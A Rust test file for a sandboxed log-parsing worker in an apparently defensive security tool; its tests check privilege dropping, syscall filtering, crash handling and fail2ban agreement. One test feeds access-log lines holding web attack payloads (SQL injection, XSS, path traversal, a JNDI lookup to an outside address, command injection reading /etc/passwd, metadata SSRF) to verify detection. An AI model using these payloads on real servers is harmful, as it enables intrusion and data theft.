//! The real child, started from this very test program: what it may, how it dies, and what that costs.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::print_stdout)]

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use bartizan_worker::{
    Batch, Caution, Heard, JailFilter, Jailed, Kind, Launch, LogFormat, LogParser, LogRecord, Parser, Position, Reading, Record, Refused,
    Verdict, Worker, serve,
};
use serde::{Deserialize, Serialize};

/// A parser that lines can kill, in every way there is.
struct Fragile;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Said(String);

impl Record for Said {
    fn holds(&self) -> bool {
        self.0.len() <= 1000
    }
}

impl Parser for Fragile {
    type Source = String;
    type State = String;
    type Record = Said;

    fn open(&mut self, source: &String) -> String {
        source.clone()
    }

    fn clock(&mut self, _source: &mut String, _zone: i32) {}

    fn parse(&mut self, source: &mut String, line: &[u8]) -> Heard<Said> {
        match line {
            b"crash" => std::process::abort(),
            b"panic" => panic!("the parser is wrong"),
            b"open" => drop(File::open("/etc/passwd")),
            b"connect" => drop(std::net::UdpSocket::bind("127.0.0.1:0")),
            b"execute" => drop(Command::new("/bin/true").spawn()),
            b"eat" => std::mem::forget(std::hint::black_box(vec![1_u8; 256 << 20])),
            b"hang" => loop {
                std::hint::black_box(());
            },
            b"lie" => return Heard::Record(Said("x".repeat(2000))),
            b"nothing" => return Heard::Known,
            b"unknown" => return Heard::Unknown,
            _ => {}
        }
        Heard::Record(Said(format!("{source}: {}", String::from_utf8_lossy(line))))
    }
}

/// Not a test: what the child runs. Started by the tests below, it finds a socket as its standard input.
#[test]
fn stands_in_for_the_program() {
    let _ = serve(Fragile);
}

/// Not a test either: the child with the parser that ships.
#[test]
fn stands_in_for_the_log_reader() {
    let _ = serve(LogParser);
}

/// Not a test either: an agent that is killed. It prints its child's pid and waits.
#[test]
fn stands_in_for_an_agent() {
    if std::env::var_os("BARTIZAN_TEST_AGENT").is_none() {
        return;
    }
    let mut worker = worker();
    hand(&mut worker, 1, b"one\n");
    read(&mut worker, 1, 0).unwrap();
    println!("\npid {}", worker.pid().unwrap());
    std::thread::sleep(Duration::from_secs(60));
}

fn worker() -> Worker<String, Said> {
    waiting(Duration::from_secs(5))
}

fn waiting(patience: Duration) -> Worker<String, Said> {
    Worker::new(launch("stands_in_for_the_program", patience))
}

fn launch(stand_in: &str, patience: Duration) -> Launch {
    let arguments = [stand_in, "--exact", "--nocapture", "--test-threads=1"].map(Into::into).to_vec();
    Launch { program: "/proc/self/exe".into(), arguments, patience }
}

fn hand(worker: &mut Worker<String, Said>, id: u32, text: &[u8]) -> File {
    let mut file = tempfile::tempfile().unwrap();
    file.write_all(text).unwrap();
    let again = File::open(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap();
    worker.take(id, Kind::File, format!("s{id}"), again.into());
    file
}

fn read(worker: &mut Worker<String, Said>, id: u32, offset: u64) -> Result<Batch<Said>, Refused> {
    worker.read(id, Reading { from: Position { offset, within_cut: false }, lines: 100, skip: false, last: false })
}

fn words(batch: &Batch<Said>) -> Vec<(u64, &str)> {
    batch.records.iter().map(|at| (at.offset, at.record.0.as_str())).collect()
}

fn is_root() -> bool {
    let root = nix::unistd::Uid::effective().is_root();
    if !root {
        eprintln!("skipped: not root");
    }
    root
}

/// The test harness runs what stands in for the program in a thread of its own; the program itself has one only.
fn its_thread(pid: u32) -> PathBuf {
    let mut threads = fs::read_dir(format!("/proc/{pid}/task")).unwrap().map(|thread| thread.unwrap().path());
    threads.find(|thread| fs::read_to_string(thread.join("comm")).unwrap() == "bartizan-worker\n").unwrap()
}

#[test]
fn it_has_no_rights_and_holds_only_what_it_was_handed() {
    if !is_root() {
        return;
    }
    // Descriptors and secrets of ours that it must not find.
    let _secret = File::open("/etc/shadow").unwrap();
    let mut worker = worker();
    hand(&mut worker, 1, b"one\n");
    hand(&mut worker, 2, b"two\n");
    assert_eq!(words(&read(&mut worker, 2, 0).unwrap()), [(0, "s2: two")]);
    let pid = worker.pid().unwrap();
    let thread = its_thread(pid);
    let status = fs::read_to_string(thread.join("status")).unwrap();
    let field = |name: &str| {
        let line = status.lines().find(|line| line.starts_with(&format!("{name}:"))).unwrap_or_else(|| panic!("no {name} in {status}"));
        line[name.len() + 1..].split_whitespace().collect::<Vec<_>>().join(" ")
    };
    for sets in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(field(sets), "0000000000000000", "{sets}");
    }
    for ids in ["Uid", "Gid"] {
        let ids: Vec<u32> = field(ids).split(' ').map(|id| id.parse().unwrap()).collect();
        assert!(ids.len() == 4 && ids.iter().all(|id| *id >= 65_520 && *id != 65_534 && *id == ids[0]), "an id of its own: {ids:?}");
        let passwd = fs::read_to_string("/etc/passwd").unwrap();
        assert!(!passwd.contains(&format!(":{}:", ids[0])), "nobody else has it: {ids:?}");
    }
    assert_eq!((field("NoNewPrivs").as_str(), field("Seccomp").as_str(), field("Groups").as_str()), ("1", "2", ""));
    let mut held: Vec<(u32, String)> = fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .map(|entry| {
            let entry = entry.unwrap();
            let link = fs::read_link(entry.path()).unwrap().display().to_string();
            (entry.file_name().to_str().unwrap().parse().unwrap(), link)
        })
        .collect();
    held.sort();
    assert_eq!(held.len(), 4, "a socket, nothing twice, and the one file that was asked about: {held:?}");
    assert!(held[0].1.starts_with("socket:") && held[1].1 == "/dev/null" && held[2].1 == "/dev/null", "{held:?}");
    assert!(held[3].1.contains("deleted"), "{held:?}");
    assert_eq!(fs::read(format!("/proc/{pid}/environ")).unwrap(), b"", "no variable of ours");
    assert_ne!(fs::read_link(thread.join("ns/net")).unwrap(), fs::read_link("/proc/self/ns/net").unwrap());
    let limits = fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let limit =
        |name: &str| limits.lines().find(|line| line.starts_with(name)).unwrap()[26..].split_whitespace().next().unwrap().to_owned();
    assert_eq!(limit("Max data size"), bartizan_sys::unprivileged::MEMORY.to_string());
    assert_eq!((limit("Max processes").as_str(), limit("Max file size").as_str(), limit("Max core").as_str()), ("0", "0", "0"));
}

#[test]
fn whatever_a_line_does_to_it_costs_that_line_and_a_note() {
    let deadly = [
        ("crash", "SIGABRT"),
        ("panic", "died"),
        ("open", "SIGSYS"),
        ("connect", "SIGSYS"),
        ("execute", "SIGSYS"),
        ("eat", "SIGABRT"),
        ("hang", "hung for 1 s"),
        ("lie", "a record out of bounds"),
    ];
    let mut worker = waiting(Duration::from_secs(1));
    for (at, (line, how)) in deadly.into_iter().enumerate() {
        let id = at as u32;
        let text = format!("before\n{line}\nunknown\nnothing\nafter\n");
        hand(&mut worker, id, text.as_bytes());
        let (mut caution, mut from, mut noted, mut got) = (Caution::default(), Position::default(), Vec::new(), Vec::new());
        let (mut lines, mut unparsed) = (0, 0);
        while from.offset < text.len() as u64 {
            match worker.read(id, caution.reading(from, false)) {
                Ok(batch) => {
                    got.extend(words(&batch).into_iter().map(|(offset, word)| (offset, word.to_owned())));
                    (lines, unparsed) = (lines + batch.lines, unparsed + batch.unparsed);
                    caution.lived(from, batch.to);
                    from = batch.to;
                }
                Err(Refused::Died(died)) => noted.push((caution.died(Instant::now(), died.earned), from.offset, died.how)),
                Err(refused) => panic!("{line}: {refused}"),
            }
        }
        let after = text.find("after").unwrap() as u64;
        assert_eq!(got, [(0, format!("s{id}: before")), (after, format!("s{id}: after"))], "{line}");
        assert_eq!((lines, unparsed), (5, 1), "{line}: every line is counted");
        assert_eq!(
            noted.iter().map(|note| (note.0, note.1)).collect::<Vec<_>>(),
            [(Verdict::Again, 0), (Verdict::SetAside, 7)],
            "{noted:?}"
        );
        assert!(noted.iter().all(|note| note.2.contains(how)), "{line}: {noted:?}");
    }
    assert_eq!(worker.deaths(), 2 * deadly.len() as u64);
}

#[test]
fn it_dies_when_the_agent_is_killed() {
    let mut agent = Command::new("/proc/self/exe")
        .args(["stands_in_for_an_agent", "--exact", "--nocapture", "--test-threads=1"])
        .env("BARTIZAN_TEST_AGENT", "1")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let output = std::io::BufReader::new(agent.stdout.take().unwrap());
    let pid = std::io::BufRead::lines(output).map_while(Result::ok).find_map(|line| line.strip_prefix("pid ").map(str::to_owned)).unwrap();
    let stat = format!("/proc/{pid}/stat");
    let lives = || fs::read_to_string(&stat).is_ok_and(|stat| !stat.contains(") Z "));
    assert!(lives());
    agent.kill().unwrap();
    agent.wait().unwrap();
    let until = Instant::now() + Duration::from_secs(5);
    while lives() {
        assert!(Instant::now() < until, "the worker outlived its agent");
        std::thread::sleep(Duration::from_millis(5));
    }
}

#[test]
fn a_stream_is_read_as_it_comes_and_its_last_cursor_told() {
    let mut worker = worker();
    let (pipe, mut writer) = std::io::pipe().unwrap();
    worker.take(1, Kind::Stream, "j".to_owned(), pipe.into());
    let cursor = |number: u32| format!("s=a;i={number};b=0;m=1;t=2;x=3");
    let entry = |number: u32| format!("{{\"__CURSOR\":\"{}\"}}\n", cursor(number));
    let third = entry(3);
    writer.write_all([entry(1).as_str(), &entry(2), &third[..7]].concat().as_bytes()).unwrap();
    let first = worker.read(1, Reading { from: Position::default(), lines: 1, skip: false, last: false }).unwrap();
    assert_eq!((first.lines, first.more, first.cursor.as_deref()), (1, true, Some(cursor(1).as_str())));
    let second = read(&mut worker, 1, first.to.offset).unwrap();
    assert_eq!((second.lines, second.more, second.cursor.as_deref()), (1, false, Some(cursor(2).as_str())));
    writer.write_all(&third.as_bytes()[7..]).unwrap();
    let last = read(&mut worker, 1, second.to.offset).unwrap();
    assert_eq!((last.lines, last.cursor.as_deref(), last.to.offset), (1, Some(cursor(3).as_str()), 3 * third.len() as u64));
}

#[test]
fn an_answer_is_bounded_and_the_rest_is_asked_for_again() {
    let mut worker = worker();
    let text: String = (0..4000).map(|line| format!("{line:0>60}\n")).collect();
    hand(&mut worker, 1, text.as_bytes());
    let (mut from, mut records) = (0, 0);
    loop {
        let batch =
            worker.read(1, Reading { from: Position { offset: from, within_cut: false }, lines: 4096, skip: false, last: false }).unwrap();
        records += batch.records.len();
        from = batch.to.offset;
        if !batch.more {
            break;
        }
    }
    assert_eq!((records, from), (4000, text.len() as u64));
    assert!(read(&mut worker, 1, from).unwrap().records.is_empty());
    assert_eq!(worker.deaths(), 0);
}

#[test]
fn more_files_than_it_may_hold_are_read_all_the_same() {
    let mut worker = worker();
    let (pipe, mut writer) = std::io::pipe().unwrap();
    worker.take(0, Kind::Stream, "j".to_owned(), pipe.into());
    writer.write_all(b"half a li").unwrap();
    assert_eq!(read(&mut worker, 0, 0).unwrap().lines, 0);
    let count = 230;
    (1..=count).for_each(|id| drop(hand(&mut worker, id, b"one\ntwo\n")));
    for id in (1..=count).chain([1, 40, count]) {
        assert_eq!(words(&read(&mut worker, id, 4).unwrap()), [(4, format!("s{id}: two").as_str())]);
    }
    writer.write_all(b"ne\n").unwrap();
    assert_eq!(words(&read(&mut worker, 0, 0).unwrap()), [(0, "j: half a line")], "what came of a pipe is not given away");
    assert_eq!(worker.deaths(), 0);
}

#[test]
fn its_end_while_it_reads_nothing_blames_no_line() {
    use nix::sys::signal::{Signal, kill};
    let mut worker = worker();
    hand(&mut worker, 1, b"one\ntwo\n");
    assert_eq!(read(&mut worker, 1, 0).unwrap().lines, 2);
    for signal in [Signal::SIGKILL, Signal::SIGTERM] {
        let pid = nix::unistd::Pid::from_raw(i32::try_from(worker.pid().unwrap()).unwrap());
        kill(pid, signal).unwrap();
        let until = Instant::now() + Duration::from_secs(5);
        while !fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default().contains(") Z ") && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(1));
        }
        match read(&mut worker, 1, 0) {
            Err(Refused::Died(died)) => assert!(!died.earned && died.how.contains(signal.as_str()), "{died:?}"),
            other => panic!("{other:?}"),
        }
        assert_eq!(read(&mut worker, 1, 0).unwrap().lines, 2);
    }
}

#[test]
fn what_a_hole_left_before_a_line_is_no_part_of_it() {
    let mut worker = worker();
    hand(&mut worker, 1, &[vec![0; 5000], b"one\n\0\0\ntwo\n".to_vec()].concat());
    assert_eq!(words(&read(&mut worker, 1, 0).unwrap()), [(5000, "s1: one"), (5007, "s1: two")]);
}

#[test]
fn attacks_on_a_web_server_are_judged_without_rights() {
    let targets = [
        "/?q=<script>alert(3)</script>",
        "/?id=1'+union+select+password+from+users--",
        "/?id=1+and+sleep(5)",
        "/?page=../../../../etc/passwd",
        "/?page=php://filter/convert.base64-encode/resource=x",
        "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
        "/?name=%7B%7B7*7%7D%7D",
        "/?host=127.0.0.1;cat+/etc/passwd",
        "/?url=http://169.254.169.254/latest/meta-data/",
        "/?x=system('id');",
        "/?x=require('child_process').exec('id')",
        "/.env",
        "/shell.php?cmd=id",
    ];
    let lines = targets.map(|target| format!("192.0.2.1 - - [28/Nov/2026:16:26:30 +0000] \"GET {target} HTTP/1.1\" 200 5 \"-\" \"x\"\n"));
    let mut worker = Worker::<LogFormat, LogRecord>::new(launch("stands_in_for_the_log_reader", Duration::from_secs(10)));
    let mut file = tempfile::tempfile().unwrap();
    file.write_all(lines.concat().as_bytes()).unwrap();
    let again = File::open(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap();
    worker.take(1, Kind::File, LogFormat::Access(None), again.into());
    let reading = Reading { from: Position { offset: 0, within_cut: false }, lines: 100, skip: false, last: false };
    let batch = worker.read(1, reading).unwrap();
    let judged: Vec<usize> = batch
        .records
        .iter()
        .map(|at| match &at.record {
            LogRecord::Request(request) => request.attacks.len(),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!((judged.len(), worker.deaths()), (targets.len(), 0));
    let missed: Vec<&str> = targets.iter().zip(&judged).filter(|(_, found)| **found == 0).map(|(target, _)| *target).collect();
    assert!(missed.is_empty(), "{missed:?}");
}

/// Jails of the installed fail2ban, as many as one log may have, beside our own parser, in the child as it is: within its memory, its calls
/// and its time.
#[test]
fn the_jails_of_the_installed_fail2ban_run_in_the_child_and_agree_with_our_own_parser() {
    let folder = std::env::var("BARTIZAN_FAIL2BAN").unwrap_or_else(|_| "/etc/fail2ban".to_owned());
    let Ok(installed) = bartizan_fail2ban::Installed::read(std::path::Path::new(&folder)) else {
        eprintln!("SKIPPED: no fail2ban is installed in {folder} (BARTIZAN_FAIL2BAN names another folder)");
        return;
    };
    let import = bartizan_fail2ban::import(&installed, true);
    let filters = import.jails.iter().filter_map(|jail| Some(JailFilter { jail: jail.name.clone(), spec: jail.spec.clone()? }));
    let (jailed, left) = Jailed { own: Some(LogFormat::Auth), counts: true, jails: filters.collect() }.bounded();
    assert!(jailed.jails.len() > 40 && jailed.jails.iter().any(|jail| jail.jail == "sshd"), "{} jails; {left:?}", jailed.jails.len());
    let failed = "Nov 28 16:26:30 box sshd[4242]: Failed password for root from 192.0.2.1 port 5 ssh2\n";
    // Whoever chooses a name chooses no address.
    let named =
        "Nov 28 16:26:31 box sshd[4243]: Failed password for invalid user test from 192.0.2.9 port 7 ssh2: from 192.0.2.2 port 5 ssh2\n";
    let other = "Nov 28 16:26:32 box app[7]: a line of an application, from 192.0.2.3, that says nothing: GET /index.html?q=1 200\n";
    let mut file = tempfile::tempfile().unwrap();
    file.write_all([failed, named, &other.repeat(60)].concat().as_bytes()).unwrap();
    let again = File::open(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap();
    let mut worker = Worker::<LogFormat, LogRecord>::new(launch("stands_in_for_the_log_reader", Duration::from_secs(20)));
    worker.take(1, Kind::File, LogFormat::Jailed(Box::new(jailed)), again.into());
    let (mut from, mut records, mut notes) = (Position::default(), Vec::new(), Vec::new());
    loop {
        let batch = worker.read(1, Reading { from, lines: 1000, skip: false, last: false }).unwrap();
        (from, notes) = (batch.to, [notes, batch.notes].concat());
        records.extend(batch.records);
        if !batch.more {
            break;
        }
    }
    assert_eq!((worker.deaths(), notes), (0, Vec::<String>::new()));
    let own: Vec<u32> =
        records.iter().filter_map(|at| if let LogRecord::Auth(record) = &at.record { Some(record.attempts) } else { None }).collect();
    assert_eq!(own, [1, 1], "our own parser counts each once");
    let by_sshd = records.iter().filter_map(|at| if let LogRecord::Jails(all) = &at.record { Some(all) } else { None }).flatten();
    let by_sshd: Vec<_> = by_sshd.filter(|one| one.jail == "sshd").map(|one| (one.address.to_string(), one.counted)).collect();
    assert_eq!(by_sshd, [("192.0.2.1".to_owned(), true)], "and fail2ban's filter only what names the same address");
}
